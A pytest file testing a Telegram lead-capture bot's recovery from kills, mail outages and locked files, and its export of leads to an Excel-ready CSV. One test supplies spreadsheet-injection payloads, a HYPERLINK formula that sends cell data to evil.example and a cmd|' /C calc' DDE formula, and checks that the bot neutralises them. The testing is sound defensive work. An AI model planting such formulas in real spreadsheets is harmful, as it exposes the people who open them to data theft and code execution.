"""Not one lead lost: the bot as a real process, killed, restarted and cut off from mail and disk.

After every scenario the file and the fakes are counted: exactly one row per finished dialog,
exactly one e-mail (and manager card) per lead, and the client never told "saved" when it was not.
"""
import json
import random
import socket
import time
from pathlib import Path

import pytest

from fakes import ANSWERS, FakeSMTP, full_dialog, owed, reach_contact_step, read_rows, run_bot, say, wait_until

COLUMNS = ["timestamp", "chat_id", "client_name", "contact", "intent", "notes", "source", "status"]
BOM = "\ufeff".encode()
PHONE = "+7 999 123-45-67"
THANKS = "Спасибо"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
MANAGER_CHAT = 5550001


def leads_path(env):
    return Path(env["DATA_DIR"]) / "leads.csv"


def rows_of(env, chat_id, delimiter=None):
    return [row for row in read_rows(env, delimiter) if row["chat_id"] == str(chat_id)]


def mails_of(smtp, chat_id):
    return [m for m in smtp.messages if f"Чат: {chat_id}" in m.get_content().splitlines()]


def thanked(telegram, chat_id):
    return [t for t in telegram.texts(chat_id) if t.startswith(THANKS)]


def restart(bot, telegram, **overrides):
    """Starts the bot again and returns once it polls, i.e. once start-up recovery is over."""
    polls = len(telegram.calls("getUpdates"))
    process = bot(**overrides)
    telegram.wait_for(lambda: len(telegram.calls("getUpdates")) > polls, 10, "the restarted bot polling")
    return process


def handled(telegram, update_id):
    """True once the bot has confirmed update_id, which it does only after handling it."""
    return telegram.confirmed_offset > update_id


def busy(env):
    """Chats whose dialog waits for the LLM (messages arriving meanwhile are kept, handled later)."""
    path = Path(env["DATA_DIR"]) / "state.jsonl"
    dialogs = {}
    for line in (path.read_text(encoding="utf-8").splitlines() if path.exists() else []):
        entry = json.loads(line)
        dialogs[entry["chat"]] = entry["dialog"]
    return [chat for chat, dialog in dialogs.items() if dialog and (dialog.get("busy") or dialog.get("waiting"))]


def settle(env, telegram, update_id):
    """Waits until the update is handled, no dialog waits for the LLM and nothing is owed any more."""
    telegram.wait_for(lambda: handled(telegram, update_id) and not busy(env) and not owed(env), 10,
                      f"update {update_id} handled and every channel done (owed: {owed(env)})")


def stop(process):
    """SIGTERM; after a clean exit nothing more can be sent, so counts are final."""
    process.terminate()
    assert process.wait() == 0


def kill(process):
    process.kill()
    process.wait()


# --- Kill -9 at the dangerous points ------------------------------------------------------------

def test_killed_after_the_row_is_written_a_restart_finishes_the_lead_once(bot, bot_env, telegram, smtp):
    first = bot()
    reach_contact_step(telegram, 2001)
    telegram.stall("sendMessage", 60)  # the thank-you hangs: the bot is held right after the write
    contact = telegram.send_text(2001, PHONE)
    telegram.wait_for(lambda: any(str(c["text"]).startswith(THANKS) for c in telegram.calls("sendMessage")),
                      10, "the thank-you being sent")
    # The ledger line is on disk before the thank-you; the channels deliver from it meanwhile (a kill
    # in the instant the mail server accepts is the one moment no bot can tell: not this test's).
    wait_until(lambda: not owed(bot_env), message="the row and the email delivered")
    kill(first)

    before = len(telegram.texts(2001))
    second = restart(bot, telegram)
    settle(bot_env, telegram, contact)
    stop(second)
    assert len(rows_of(bot_env, 2001)) == 1
    assert len(mails_of(smtp, 2001)) == 1
    after = telegram.texts(2001)[before:]
    assert [t for t in after if t.startswith(THANKS)], "the client is thanked after the restart"
    assert not [t for t in after if "Здравствуйте" in t], "the redelivered contact started a new dialog"


def test_killed_right_after_the_server_accepted_the_email_no_second_email(bot, bot_env, telegram, smtp):
    smtp.quit_delay = 60  # the server took the message, then hangs at QUIT
    first = bot()
    full_dialog(telegram, 2002)
    wait_until(lambda: smtp.quits, message="the bot saying QUIT after the message")
    kill(first)
    smtp.quit_delay = 0

    second = restart(bot, telegram)
    telegram.wait_for(lambda: not owed(bot_env), 10, "every channel done")
    stop(second)
    assert len(mails_of(smtp, 2002)) == 1
    assert len(rows_of(bot_env, 2002)) == 1


def test_a_stop_while_the_mail_server_checks_the_email_lets_it_finish_and_sends_it_once(bot, bot_env, telegram, smtp):
    smtp.data_delay = 0.5  # the server keeps the message at once, its "250" comes later (a virus scan)
    first = bot()
    full_dialog(telegram, 2003)
    wait_until(lambda: smtp.messages, message="the email reaching the server")
    stop(first)  # systemctl restart: a stop, not a crash
    smtp.data_delay = 0
    second = restart(bot, telegram)
    telegram.wait_for(lambda: not owed(bot_env), 10, "every channel done")
    stop(second)
    assert len(mails_of(smtp, 2003)) == 1 and len(rows_of(bot_env, 2003)) == 1


def test_a_stop_while_the_mail_server_does_not_even_greet_does_not_wait_for_it(bot, bot_env, telegram, tmp_path):
    silent = socket.create_server(("127.0.0.1", 0))  # takes the connection, never says a word (a black hole)
    try:
        process = bot(SMTP_PORT=str(silent.getsockname()[1]))
        full_dialog(telegram, 2004)
        wait_until(lambda: rows_of(bot_env, 2004), message="the row")
        connection, _ = silent.accept()  # the delivery thread now waits for the greeting (up to 20 s)
        process.terminate()
        assert process.wait(5) == 0  # nothing was sent yet, so nothing can go twice: no reason to wait
        connection.close()
    finally:
        silent.close()


def test_a_forget_while_the_bot_logs_in_to_the_mail_server_sends_no_email(bot, bot_env, telegram, smtp):
    smtp.ehlo_delay = 0.5
    process = bot()
    full_dialog(telegram, 2005)
    wait_until(lambda: smtp.ehlos, message="the delivery thread logging in")
    say(telegram, 2005, "/forget", "удалены")
    process.wait_log("forgot chat 2005")  # the email channel skipped the forgotten lead
    assert not mails_of(smtp, 2005) and not rows_of(bot_env, 2005)


def test_a_stop_after_the_server_took_the_email_does_not_wait_for_its_goodbye(bot, bot_env, telegram, smtp):
    smtp.quit_delay = 30  # the server took the message and hangs at QUIT
    process = bot()
    full_dialog(telegram, 2006)
    wait_until(lambda: smtp.quits, message="the bot saying QUIT")
    process.terminate()
    assert process.wait(5) == 0 and len(mails_of(smtp, 2006)) == 1


def test_killed_at_random_moments_every_finished_dialog_gives_one_row_and_its_email(
        bot, bot_env, telegram, smtp):
    chats = range(2101, 2107)
    window = 0.06  # saving, thanking and e-mailing take about 0.03 s after the contact arrives
    process = bot()
    for i, chat in enumerate(chats):
        reach_contact_step(telegram, chat)
        contact = telegram.send_text(chat, PHONE)
        time.sleep((i + random.random()) * window / len(chats))  # the kills spread over the window
        kill(process)
        process = restart(bot, telegram)
        settle(bot_env, telegram, contact)
    stop(process)
    for chat in chats:
        assert len(rows_of(bot_env, chat)) == 1, f"rows of chat {chat}"
        assert thanked(telegram, chat), f"chat {chat} was never thanked"
        mails = mails_of(smtp, chat)
        # A kill in the instant between the server's "accepted" and the bot hearing it is the one
        # moment no client can tell; the copy sent then carries the same Message-ID.
        assert 1 <= len(mails) <= 2 and len({m["Message-ID"] for m in mails}) == 1, f"e-mails of chat {chat}"


def test_a_redelivered_contact_after_a_crash_is_not_a_second_lead(bot, bot_env, telegram, smtp):
    first = bot()
    reach_contact_step(telegram, 2003)
    message = telegram.build_message(2003, text=PHONE)
    contact = telegram.push_update({"message": message})
    telegram.wait_for(lambda: thanked(telegram, 2003) and smtp.messages and not owed(bot_env), 10,
                      "the thank-you and the e-mail")
    kill(first)
    replies = len(telegram.texts(2003))
    telegram.push_update({"update_id": contact, "message": message})  # Telegram sends it once more

    polls = len(telegram.calls("getUpdates"))
    second = bot()
    telegram.wait_for(lambda: any(int(c.get("offset") or 0) > contact
                                  for c in telegram.calls("getUpdates")[polls:]), 10,
                      "the restarted bot confirming the redelivered update")
    stop(second)
    assert len(rows_of(bot_env, 2003)) == 1
    assert len(mails_of(smtp, 2003)) == 1
    assert len(telegram.texts(2003)) == replies  # no answer at all to the repeat, not even a greeting


def test_the_same_contact_sent_twice_gives_one_lead(bot, bot_env, telegram, smtp):
    process = bot()
    reach_contact_step(telegram, 2004)
    telegram.send_text(2004, PHONE)
    again = telegram.send_text(2004, PHONE)
    settle(bot_env, telegram, again)
    stop(process)
    assert len(rows_of(bot_env, 2004)) == 1
    assert len(mails_of(smtp, 2004)) == 1


# --- E-mail channel ------------------------------------------------------------------------------------

def test_smtp_down_while_the_lead_is_saved_then_up_the_email_arrives_once(bot, bot_env, telegram, smtp):
    smtp.stop()
    process = bot()
    thanks = full_dialog(telegram, 2201)
    assert "сохранена" in thanks  # the row is safe even though mail is down
    log = process.wait_log("email for chat 2201 failed")
    assert PHONE not in log and "Иван" not in log
    wait_until(lambda: owed(bot_env) == ["email"], message="only the email owed")

    smtp.start()
    smtp.wait_for_messages(1)
    process.wait_log("email delivered for chat 2201")
    wait_until(lambda: not owed(bot_env), message="every channel done")
    stop(process)
    assert len(mails_of(smtp, 2201)) == 1
    assert PHONE in smtp.messages[0].get_content()


def test_smtp_login_rejected_is_explained_and_the_lead_is_delivered_by_the_next_run(bot, bot_env, telegram):
    server = FakeSMTP(auth=("bot@example.com", "right-password-123"))
    try:
        slow_retry = {"SMTP_PORT": str(server.port), "SMTP_USER": "bot@example.com",
                      "OUTBOX_RETRY_SECONDS": "600", "OUTBOX_RETRY_MAX_SECONDS": "1800"}
        first = bot(**slow_retry, SMTP_PASSWORD="wrong-password-456")
        thanks = full_dialog(telegram, 2301)
        assert "сохранена" in thanks
        [line] = [line for line in first.wait_log("email for chat 2301 failed").splitlines()
                  if "email for chat 2301 failed" in line]
        assert "SMTP_USER" in line and "SMTP_PASSWORD" in line
        assert "wrong-password-456" not in first.output() and PHONE not in first.output()
        assert len(rows_of(bot_env, 2301)) == 1
        assert len(owed(bot_env)) == 1
        kill(first)

        # The owner fixes the password and restarts: the owed e-mail goes out now, not in 10 minutes.
        second = bot(**slow_retry, SMTP_PASSWORD="right-password-123")
        server.wait_for_messages(1, timeout=5)
        wait_until(lambda: not owed(bot_env), message="every channel done")
        stop(second)
        assert len(mails_of(server, 2301)) == 1
    finally:
        server.stop()


def test_a_server_that_fails_quit_after_accepting_gets_the_email_once(bot, bot_env, telegram, smtp):
    smtp.quit_reply = "421 4.3.2 Service shutting down"
    process = bot()
    full_dialog(telegram, 2202)
    process.wait_log("email delivered for chat 2202")
    assert not owed(bot_env)
    stop(process)
    assert "failed" not in process.output()
    assert len(mails_of(smtp, 2202)) == 1


# --- Manager alert in Telegram ------------------------------------------------------------------------

def test_manager_chat_gets_the_card_once_with_retries_until_telegram_takes_it(bot, bot_env, telegram, smtp):
    telegram.block(MANAGER_CHAT)  # the manager has not opened the bot yet: Telegram answers 403
    process = bot(MANAGER_CHAT_ID=str(MANAGER_CHAT))
    full_dialog(telegram, 2501)
    log = process.wait_log("telegram for chat 2501 failed")
    assert "MANAGER_CHAT_ID" in log
    smtp.wait_for_messages(1)  # e-mail does not wait for the Telegram card

    telegram.unblock(MANAGER_CHAT)
    [card] = telegram.wait_messages(MANAGER_CHAT, 1)
    wait_until(lambda: not owed(bot_env), message="every channel done")
    stop(process)
    assert telegram.texts(MANAGER_CHAT) == [card]
    assert card.startswith("Новая заявка") and PHONE in card and "2501" in card
    assert len(mails_of(smtp, 2501)) == 1


# --- When the file cannot be written -----------------------------------------------------------------

def test_leads_file_blocked_the_lead_waits_in_the_ledger_and_is_written_once_freed(bot, bot_env, telegram,
                                                                                   smtp):
    process = bot()
    reach_contact_step(telegram, 2402)
    leads = leads_path(bot_env)
    leads.unlink(missing_ok=True)
    leads.mkdir(parents=True)  # like a file Excel holds locked: every write fails
    thanks = say(telegram, 2402, PHONE, THANKS)
    assert "сохран" in thanks.lower()  # true: the lead is committed in DATA_DIR/ledger.jsonl
    smtp.wait_for_messages(1)  # the email does not wait for leads.csv
    process.wait_log("could not write leads.csv")
    wait_until(lambda: owed(bot_env) == ["csv"], message="only the row waiting, for the file")
    leads.rmdir()
    wait_until(lambda: not owed(bot_env), message="the row written by a retry")
    stop(process)
    [row] = read_rows(bot_env)
    assert row["chat_id"] == "2402" and row["contact"] == "'" + PHONE and row["status"] == "new"
    assert leads.read_bytes().startswith(BOM)
    assert len(mails_of(smtp, 2402)) == 1


# --- Excel-ready file ----------------------------------------------------------------------------------

def summary_with_formulas(request):
    """The LLM's two summary lines start like formulas; the offer is ordinary text."""
    system = request["messages"][0]["content"]
    if "ровно две строки" in system:
        return "+SUM(1;2)\n-2+3+cmd|' /C calc'!A0"
    return "Рекомендуем услугу «Лендинг под ключ»."


@pytest.mark.parametrize("delimiter", [",", ";"])
def test_csv_opens_in_a_spreadsheet_without_running_client_text(bot, bot_env, telegram, llm, delimiter):
    process = bot(CSV_DELIMITER=delimiter)
    task = '=HYPERLINK("http://evil.example/?d="&A1;"Подробнее")\nВторая строка; с "кавычками", и запятой'
    reach_contact_step(telegram, 2601, answers=[task, ANSWERS[1], ANSWERS[2]], first_name="=1+2")
    say(telegram, 2601, PHONE, THANKS, first_name="=1+2")
    llm.reply_fn = summary_with_formulas
    reach_contact_step(telegram, 2602, first_name="@admin")
    say(telegram, 2602, "@ivan_petrov", THANKS, first_name="@admin")
    stop(process)

    data = leads_path(bot_env).read_bytes()
    assert data.startswith(BOM + delimiter.join(COLUMNS).encode() + b"\r\n")
    assert data.count(BOM) == 1
    assert ("'" + PHONE).encode() in data  # the phone's characters are all there, as written

    first, second = read_rows(bot_env, delimiter)
    assert list(first) == COLUMNS
    assert first["chat_id"] == "2601" and second["chat_id"] == "2602"
    assert first["client_name"] == "'=1+2"
    assert first["contact"] == "'" + PHONE  # reads as +7 999 123-45-67 in Excel
    assert first["intent"].startswith("'=HYPERLINK(")
    assert '\nВторая строка; с "кавычками", и запятой' in first["notes"]  # one field, several lines
    assert second["client_name"] == "'@admin"
    assert second["contact"] == "'@ivan_petrov"
    assert second["intent"] == "'+SUM(1;2)"
    assert second["notes"] == "'-2+3+cmd|' /C calc'!A0"
    for row in (first, second):
        assert not [c for c in COLUMNS if row[c].startswith(FORMULA_STARTS)], row


# --- Refusals ------------------------------------------------------------------------------------------

def test_a_refusal_is_a_rejected_row_without_personal_data_or_email(bot, bot_env, telegram, smtp):
    process = bot(MANAGER_CHAT_ID=str(MANAGER_CHAT))
    # A contact in an answer makes a lead now (test_e2e_conversation checks that its intent and
    # notes are scrubbed).
    task = "Сайт для студии, звоните после шести"
    reach_contact_step(telegram, 2701, answers=[task, ANSWERS[1], ANSWERS[2]])
    say(telegram, 2701, "Нет, не хочу", "/start")
    stop(process)
    [row] = read_rows(bot_env)
    assert row["status"] == "rejected" and row["contact"] == ""
    assert smtp.messages == []
    assert telegram.texts(MANAGER_CHAT) == []
    assert owed(bot_env) == []


# --- A leads.csv from an earlier version ---------------------------------------------------------------

OLD_ROW = "2025-01-01T10:00:00+03:00,42,Пётр,'+7 900 000-00-00,Сайт,Старая заявка,telegram,new\r\n"


@pytest.mark.parametrize("header", [
    "chat_id,timestamp,client_name,contact,intent,notes,source,status",  # another column order
    "\t".join(COLUMNS),  # another delimiter
    "timestamp,chat_id,contact,status",  # fewer columns
])
def test_a_leads_file_of_another_format_stops_start_up_and_is_left_alone(bot_env, tmp_path, header):
    leads = leads_path(bot_env)
    leads.parent.mkdir(parents=True)
    leads.write_bytes((header + "\r\n" + OLD_ROW).encode())
    before = leads.read_bytes()
    result = run_bot(bot_env, cwd=tmp_path, timeout=20)
    assert result.returncode == 2
    [line] = result.stderr.strip().splitlines()
    assert "leads.csv" in line and "Traceback" not in line
    assert leads.read_bytes() == before


def test_an_old_file_without_bom_is_appended_to_compatibly(bot, bot_env, telegram):
    leads = leads_path(bot_env)
    leads.parent.mkdir(parents=True)
    old = (",".join(COLUMNS) + "\r\n" + OLD_ROW).encode()
    leads.write_bytes(old)
    process = bot()
    full_dialog(telegram, 2802)
    stop(process)
    data = leads.read_bytes()
    assert data.startswith(old) and BOM not in data
    assert [row["chat_id"] for row in read_rows(bot_env)] == ["42", "2802"]


def test_a_half_written_last_line_is_completed_never_cut(bot, bot_env, telegram):
    leads = leads_path(bot_env)
    leads.parent.mkdir(parents=True)
    good = BOM + (",".join(COLUMNS) + "\r\n" + OLD_ROW).encode()
    torn = '2025-01-02T11:00:00+03:00,43,Ольга,+7 900 1'.encode()  # power cut mid-row
    leads.write_bytes(good + torn)
    process = bot()
    full_dialog(telegram, 2803)
    stop(process)
    assert leads.read_bytes().startswith(good + torn + b"\r\n")
    assert [row["chat_id"] for row in read_rows(bot_env)] == ["42", "43", "2803"]
